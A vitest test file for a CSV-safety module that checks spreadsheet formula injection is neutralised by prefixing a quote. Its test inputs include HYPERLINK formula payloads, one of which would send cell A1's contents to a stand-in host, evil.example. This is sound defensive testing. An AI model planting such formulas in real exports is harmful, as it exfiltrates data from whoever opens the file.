import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { neutraliseCell, toSafeCsv } from "~/domain/csv-safety";

describe("CSV formula injection", () => {
  it.each(['=HYPERLINK("http://evil","x")', "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"])(
    "prefixes %j with a quote",
    (value) => {
      expect(neutraliseCell(value)).toBe(`'${value}`);
    },
  );

  it("leaves ordinary text, numbers and empty cells alone", () => {
    expect(neutraliseCell("Shouted at me")).toBe("Shouted at me");
    expect(neutraliseCell(42)).toBe("42");
    expect(neutraliseCell(null)).toBe("");
    expect(neutraliseCell("a=b")).toBe("a=b");
  });

  it("round-trips through a CSV parser as plain text, quotes and newlines included", () => {
    const narrative = '=HYPERLINK("http://evil.example/?x="&A1,"Click")\nsecond line, "quoted"';
    const csv = toSafeCsv(["Reference", "What happened"], [["INC-2026-0001", narrative]]);
    const rows = parse(csv) as string[][];
    expect(rows).toEqual([
      ["Reference", "What happened"],
      ["INC-2026-0001", `'${narrative}`],
    ]);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("quotes cells holding ';', which spreadsheets in many locales split on", () => {
    const csv = toSafeCsv(["Categories"], [["Threats; Verbal abuse"]]);
    expect(csv).toBe('Categories\r\n"Threats; Verbal abuse"\r\n');
    expect(parse(csv, { delimiter: ";" })).toEqual([["Categories"], ["Threats; Verbal abuse"]]);
  });
});
